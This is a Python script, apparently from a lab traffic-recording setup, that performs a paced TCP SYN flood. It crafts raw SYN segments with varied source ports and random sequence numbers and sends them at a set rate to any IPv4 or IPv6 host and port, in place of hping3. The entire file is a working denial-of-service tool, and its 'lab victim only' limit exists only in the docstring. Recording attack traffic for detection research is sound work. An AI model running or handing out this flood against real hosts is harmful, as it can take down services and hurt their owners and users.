"""A paced TCP SYN flood for the lab over IPv6 or IPv4 (hping3 has no IPv6).

syn_flood.py SRC DEST PORT RATE COUNT

Sends COUNT SYNs from SRC to DEST:PORT, RATE a second, each from another
source port and with a random sequence number, on a raw socket: the
sender's kernel has no connection for the SYN-ACKs that come back and
resets them, as with hping3 -S. Used by record-corpus.sh against the lab
victim only.
"""
import random
import socket
import struct
import sys
import time

IPV6_CHECKSUM = 7  # linux/in6.h: the kernel fills in the checksum at this offset


def checksum4(src, dst, segment):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    data = pseudo + segment
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main(argv):
    if len(argv) != 5:
        sys.exit(__doc__)
    src, dest, port, rate, count = argv[0], argv[1], int(argv[2]), float(argv[3]), int(argv[4])
    v6 = ":" in dest
    if v6:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_CHECKSUM, 16)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.bind((src, 0))
    rng = random.Random(7)
    start = time.monotonic()
    sent = 0
    for i in range(count):
        delay = start + i / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        sport = 1024 + (i * 7919) % 64000
        seg = struct.pack("!HHIIBBHHH", sport, port, rng.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
        if not v6:
            seg = seg[:16] + struct.pack("!H", checksum4(src, dest, seg)) + seg[18:]
        try:
            s.sendto(seg, (dest, 0))
            sent += 1
        except OSError:
            pass
    print("sent %d SYNs in %.1f s" % (sent, time.monotonic() - start))


if __name__ == "__main__":
    main(sys.argv[1:])
